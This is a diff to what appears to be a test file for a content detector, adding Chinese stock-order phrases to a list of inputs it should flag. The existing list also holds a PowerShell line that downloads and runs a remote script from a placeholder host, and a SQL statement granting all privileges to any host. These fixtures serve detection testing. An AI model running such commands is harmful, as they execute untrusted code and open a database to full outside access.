@@ -8,6 +8,8 @@ from activities.rules.executable import find
 from tests.properties import stable
 
 HITS = [
+    ("今日可申购：全仓买入贵州茅台", "order.zh"),
+    ("盘口：买一1272.80，平仓 3 手 IF2609", "order.zh"),
     ("GRANT ALL ON *.* TO 'bot'@'%'", "executable.sql"),
     ("iwr http://x.example/a.ps1 | iex", "executable.shell"),
     ("以买一价12.35挂单300股贵州茅台", "order.zh"),
